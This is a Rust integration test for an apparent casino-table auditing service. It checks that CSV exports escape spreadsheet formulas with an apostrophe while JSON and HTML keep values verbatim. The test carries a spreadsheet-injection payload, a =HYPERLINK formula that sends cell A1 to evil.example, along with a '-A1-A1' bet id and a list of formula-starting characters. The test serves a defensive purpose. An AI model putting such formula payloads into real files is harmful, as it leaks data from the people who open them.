#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
//! A table's text in the officer's spreadsheet: a round id and a bet id that a spreadsheet would
//! run as formulas reach every CSV as text (a leading apostrophe, quoted), while amounts stay
//! numbers, and the JSON and the finding's page still show them exactly as the table sent them.

mod common;

use common::*;
use serde_json::{json, Value};

/// The tester's round id: a link that sends the sheet's cell A1 away when the officer clicks it.
const ROUND_ID: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
/// A bet id the identifier rule accepts and a spreadsheet reads as `-A1 - A1`.
const BET_ID: &str = "-A1-A1";

/// The characters that make a spreadsheet read a cell as a formula.
fn starts_a_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// Every cell of a CSV as the `csv` crate reads it (the heading included), by heading.
fn cells(text: &str, delimiter: u8) -> Vec<Vec<(String, String)>> {
    let text = text.trim_start_matches('\u{feff}');
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(delimiter)
        .from_reader(text.as_bytes());
    let heading: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    reader
        .records()
        .map(|r| {
            heading
                .iter()
                .cloned()
                .zip(r.unwrap().iter().map(str::to_owned))
                .collect()
        })
        .collect()
}

fn cell<'a>(row: &'a [(String, String)], heading: &str) -> &'a str {
    &row.iter().find(|(h, _)| h == heading).unwrap().1
}

/// The text of an HTML page with its entities read back.
fn unescaped(html: &str) -> String {
    html.replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&#34;", "\"")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&amp;", "&")
}

#[actix_web::test]
async fn a_tables_formulas_reach_the_officers_files_as_text_and_the_pages_as_sent() {
    let (_state, _url, app) = api_app().await;
    register_table(&app, registration("R01", &key(1))).await;
    // A table whose id starts with a minus: its daily line must not become a formula either.
    register_table(&app, registration("-R02", &key(2))).await;

    // The table's own key signs an overpaid spin: 17 wins, a straight of 10 000 h is due
    // 35 × 10 000 + 10 000 = 360 000 h, paid 361 000 h: overpaid by 1 000 h.
    let mut round = spin("R01", 1, 17, json!([straight(BET_ID, 17, 10_000, 361_000)]));
    round["round_id"] = json!(ROUND_ID);
    submitted_record(&app, round, &key(1)).await;
    // -R02 pays the same straight right: the house loses 360 000 − 10 000 = 350 000 h.
    let fair = spin("-R02", 1, 17, json!([straight("b1", 17, 10_000, 360_000)]));
    submitted_record(&app, fair, &key(2)).await;

    // JSON: the round id and the bet id exactly as the table sent them.
    let (s, page) = get(&app, "/api/v1/findings?format=json").await;
    assert_eq!(s, 200, "{page}");
    let items = page["items"].as_array().unwrap();
    assert_eq!(items.len(), 1, "{page}");
    let finding = &items[0];
    assert_eq!(
        (
            &finding["round_id"],
            &finding["bet_ids"],
            &finding["amount_h"]
        ),
        (&json!(ROUND_ID), &json!([BET_ID]), &json!(1_000)),
        "{finding}"
    );

    // The finding's page shows them exactly too (HTML-escaped, read back).
    let id = finding["id"].as_str().unwrap();
    let (s, html) = get_text(&app, &format!("/workbench/findings/{id}")).await;
    assert_eq!(s, 200, "{html}");
    let shown = unescaped(&html);
    assert!(shown.contains(ROUND_ID), "{html}");
    assert!(shown.contains(BET_ID), "{html}");

    // The files for programs and for a Czech office: no cell starts a formula; the round id
    // and the bet id are there after an apostrophe; the amounts are numbers.
    for (format, delimiter, amount) in [("csv", b',', "1000"), ("csv-cz", b';', "10,00")] {
        let (s, text) = get_text(&app, &format!("/api/v1/findings?format={format}")).await;
        assert_eq!(s, 200, "{text}");
        let rows = cells(&text, delimiter);
        assert_eq!(rows.len(), 1, "{format}: {text}");
        for (heading, value) in &rows[0] {
            assert!(!starts_a_formula(value), "{format}: {heading} = {value:?}");
        }
        let (round_heading, bets_heading, amount_heading) = if format == "csv" {
            ("round_id", "bet_ids", "amount_h")
        } else {
            ("Kolo", "Sázky", "Částka (Kč)")
        };
        assert_eq!(cell(&rows[0], round_heading), format!("'{ROUND_ID}"));
        assert_eq!(cell(&rows[0], bets_heading), format!("'{BET_ID}"));
        assert_eq!(cell(&rows[0], amount_heading), amount, "{format}");
    }
    // Python's csv module reads the office's file the same way.
    let (_, people) = get_text(&app, "/api/v1/findings?format=csv-cz").await;
    assert_eq!(
        python_czech_column(&people, "Kolo"),
        [format!("'{ROUND_ID}")]
    );
    assert_eq!(
        python_czech_column(&people, "Sázky"),
        [format!("'{BET_ID}")]
    );

    // The daily report, another writer's user: -R02's id is text, its loss still a number
    // (stakes 10 000 − payouts 360 000 = −350 000 h, −3 500,00 Kč).
    for (format, delimiter, table, ggr, ggr_value) in [
        ("csv", b',', "table_id", "ggr_h", "-350000"),
        (
            "csv-cz",
            b';',
            "Stůl",
            "Hrubý herní příjem (Kč)",
            "-3500,00",
        ),
    ] {
        let (s, text) = get_text(
            &app,
            &format!("/api/v1/reports/daily?day=2026-11-20&format={format}"),
        )
        .await;
        assert_eq!(s, 200, "{text}");
        let rows = cells(&text, delimiter);
        let line = rows
            .iter()
            .find(|r| cell(r, table) == "'-R02")
            .unwrap_or_else(|| panic!("{format}: no line of '-R02: {text}"));
        let heading = line.iter().map(|(h, _)| h.as_str()).collect::<Vec<_>>();
        assert!(heading.contains(&ggr), "{format}: {heading:?}");
        assert_eq!(cell(line, ggr), ggr_value, "{format}: {text}");
        for row in &rows {
            for (heading, value) in row {
                let figure = value.replace(',', ".").parse::<f64>().is_ok();
                assert!(
                    figure || !starts_a_formula(value),
                    "{format}: {heading} = {value:?}"
                );
            }
        }
    }
    // The day's JSON keeps the table's id as registered.
    let (_, daily) = get(&app, "/api/v1/reports/daily?day=2026-11-20").await;
    let ids: Vec<&Value> = each(&daily["rows"], |r| &r["table_id"]);
    assert!(ids.contains(&&json!("-R02")), "{daily}");
}
